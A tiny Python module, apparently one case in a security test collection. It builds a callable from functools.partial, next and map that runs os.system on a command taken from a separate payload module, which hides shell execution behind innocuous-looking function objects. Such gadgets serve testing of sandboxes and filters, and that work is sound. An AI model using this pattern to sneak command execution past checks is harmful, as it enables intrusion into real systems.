"""A partial() that gives what an iterator over a C function gives next."""
CATEGORY = "callable"
REACH = "run"

import functools
import os

from . import payload


def make():
    return functools.partial(next, map(os.system, [payload.COMMAND]))
